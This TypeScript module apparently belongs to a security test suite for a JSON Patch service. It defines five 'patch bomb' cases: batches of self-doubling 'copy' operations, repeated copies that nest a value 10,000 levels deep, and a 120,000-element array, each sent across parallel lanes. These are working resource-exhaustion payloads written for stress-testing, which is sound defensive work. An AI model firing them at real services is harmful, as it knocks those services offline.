// Item 5: patches whose result is far larger, or far deeper, than what was sent.
import type { Attack, Publication } from '../attack.ts';

/** Each `copy` of the whole value into itself doubles it. */
function doublings(count: number, from = 0): object[] {
  return Array.from({ length: count }, (_, i) => ({
    op: 'copy',
    from: '',
    path: `/${String.fromCharCode(97 + ((from + i) % 26))}${Math.floor((from + i) / 26) || ''}`,
  }));
}

const SEED = { op: 'add', path: '', value: { seed: ['patch bomb'] } };

/** 26 of them fit into 1,100 bytes; fewer only block the process. */
const bomb = (copies: number): Pick<Attack, 'run'> => ({
  run: (arms) =>
    arms.lanes(2, async (n) => {
      const publication = await arms.begin(`bomb-${n}-${Math.random()}`);
      await publication.patch([[SEED, ...doublings(copies)]]);
    }),
});

export const PATCH_BOMBS: readonly Attack[] = [
  { id: '5a', title: '26 doubling copies in one batch', ...bomb(26) },
  { id: '5b', title: '19 doubling copies in one batch', ...bomb(19) },
  {
    id: '5c',
    title: 'one doubling copy a batch, over many batches',
    run: (arms) => {
      const open = new Map<number, { publication: Publication; copies: number }>();
      return arms.lanes(4, async (n) => {
        const held = open.get(n) ?? {
          publication: await arms.begin(`spread-${n}-${Math.random()}`),
          copies: 0,
        };
        open.set(n, held);
        const patch = held.copies === 0 ? [SEED] : doublings(1, held.copies);
        held.copies += 1;
        const { status } = await held.publication.patch([patch]);
        if (status !== 200) open.delete(n);
      });
    },
  },
  {
    id: '5d',
    title: 'values that become 10,000 levels deep, 500 a batch',
    run: (arms) => {
      const open = new Map<number, Publication>();
      return arms.lanes(4, async (n) => {
        const held = open.get(n) ?? (await arms.begin(`deep-${n}-${Math.random()}`));
        if (!open.has(n)) await held.patch([[{ op: 'add', path: '', value: { a: 1, b: { a: 1 } } }]]);
        open.set(n, held);
        // Moved into a new container, the value is one level deeper.
        const wrap = [
          { op: 'copy', from: '/a', path: '/b/a' },
          { op: 'copy', from: '/b', path: '/a' },
        ];
        const { status } = await held.patch([Array.from({ length: 500 }, () => wrap).flat()]);
        if (status !== 200) open.delete(n);
      });
    },
  },
  {
    id: '5e',
    title: 'arrays of 120,000 elements, which are split into an operation an element',
    run: (arms) => {
      const value = Array.from({ length: 120_000 }, (_, i) => i % 10);
      return arms.lanes(2, async (n) => {
        const publication = await arms.begin(`wide-${n}-${Math.random()}`);
        await publication.patch([[{ op: 'add', path: '', value }]]);
      });
    },
  },
];
